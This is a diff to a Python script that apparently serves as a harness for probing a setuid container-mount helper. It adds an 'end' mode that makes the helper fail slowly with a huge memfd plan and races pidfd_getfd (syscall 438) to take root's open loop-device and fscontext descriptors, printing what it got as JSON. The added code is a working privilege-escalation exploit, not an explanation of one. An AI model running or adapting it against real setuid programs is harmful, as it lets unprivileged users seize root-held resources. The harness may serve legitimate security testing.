@@ -5,6 +5,7 @@ python3 -IS runner.py MODE HELPER IMAGE [WORD...]    as the user; WHERE in the e
     run       run them in a container: the image as root, /proc, /dev and /tmp of the host, the user as the user
     tricks    try to get the image's flags off, or a device open, and print what came of it as JSON
     attack    start sh-mount often, stop it anywhere, try to get hold of it, and print what was got as JSON
+    end       have it fail often, take the descriptors that it has while it ends, and print what was got as JSON
 """
 
 from __future__ import annotations
@@ -174,7 +175,30 @@ def attack(helper, image, rounds=60):
         process.stdin.close()
 
 
+def end(helper, image, rounds=40):
+    """Yield the descriptors of root's that were got from a helper that failed after it had opened them."""
+    plan = b"mw/etc\0t/none/such\0atrue\0" + b"eA=%s\0" % (b"x" * 90) * 20_000 + b"\0"  # much memory takes time to go
+    for turn in range(rounds):
+        text = os.memfd_create("plan")
+        os.write(text, plan)
+        process = subprocess.Popen([helper, "setuid", str(text), image], pass_fds=[text], stderr=subprocess.DEVNULL)
+        os.close(text)
+        pidfd = os.pidfd_open(process.pid)
+        while process.poll() is None:
+            for fd in range(3, 16):
+                taken = LIBC.syscall(438, pidfd, fd, 0)
+                if taken >= 0:
+                    name = os.readlink(f"/proc/self/fd/{taken}")
+                    os.close(taken)
+                    if name.startswith("/dev/loop") or "fscontext" in name:
+                        yield {"turn": turn, "got": name}
+        os.close(pidfd)
+
+
 def main(mode, helper, image, *words):
+    if mode == "end":
+        print(json.dumps(list(end(helper, image))))
+        return
     if mode == "attack":
         print(json.dumps(list(attack(helper, image))))
         return
